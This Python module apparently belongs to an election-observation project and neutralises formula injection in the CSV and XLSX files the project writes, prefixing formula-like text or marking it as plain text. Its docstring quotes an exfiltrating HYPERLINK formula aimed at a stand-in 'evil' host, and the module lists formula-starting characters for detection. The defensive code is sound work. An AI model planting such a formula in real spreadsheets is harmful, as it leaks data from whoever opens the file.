"""Spreadsheets the project writes (XLSX and CSV) never carry a live formula from someone's text.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel and LibreOffice (``=HYPERLINK("http://evil/?"&A1, "Открыть")`` in an observer's
report would send the neighbouring cells away when a lawyer clicks it). Every writer goes through
one of these:

- :func:`csv_value` / :func:`csv_row` — for CSV: such a text gets a leading apostrophe, the
  spreadsheet's "this is text" mark (what the ЦУР export has always done for its free text);
- :func:`neutralize_sheet` — for an openpyxl worksheet after it is filled: such a cell becomes a
  plain string cell with the "quote prefix" style, so the text shows exactly as written and is
  never evaluated (openpyxl itself would store any string starting with ``=`` as a formula);
- :func:`xlsx_cells` — the same for a write-only worksheet, row by row.

A plain number written as text ("-5", "+7") and a lone "-" stay as they are: they are no formula.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d+)?)?\Z")


def is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START) and not _PLAIN_NUMBER.match(value)


def csv_value(value: Any) -> Any:
    """A value for a CSV cell: a formula-like text prefixed with an apostrophe."""
    return f"'{value}" if is_formula_like(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_value(v) for v in values]


def _as_text(cell: Any) -> None:
    cell.data_type = "s"
    cell.quotePrefix = True


def neutralize_sheet(sheet: Any) -> int:
    """Turn every formula-like cell of a filled openpyxl worksheet into plain text; return how many.
    The project's spreadsheets contain no formulas of their own."""
    changed = 0
    for row in sheet.iter_rows():
        for cell in row:
            if is_formula_like(cell.value):
                _as_text(cell)
                changed += 1
    return changed


def xlsx_cells(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """A row for ``sheet.append`` of a write-only worksheet, formula-like texts as plain text."""
    from openpyxl.cell import WriteOnlyCell

    row: list[Any] = []
    for value in values:
        if is_formula_like(value):
            cell = WriteOnlyCell(sheet, value=value)
            _as_text(cell)
            row.append(cell)
        else:
            row.append(value)
    return row
